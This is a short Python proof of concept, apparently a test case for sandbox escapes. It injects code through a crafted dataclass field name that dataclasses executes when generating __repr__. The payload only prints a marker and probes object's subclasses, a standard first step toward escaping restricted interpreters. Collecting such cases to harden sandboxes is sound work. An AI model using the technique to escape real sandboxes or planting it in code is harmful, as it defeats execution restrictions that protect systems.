# attack: dataclasses writes the fields' names into the text of __repr__ and executes it; a class body may fill __annotations__ by hand
# family: eval
import dataclasses
@dataclasses.dataclass(init=False, eq=False)
class Thing:
    __annotations__ = {"x,print('REACHED',[].__class__.__base__.__subclasses__().__len__())": int}
    x = 0
repr(Thing())
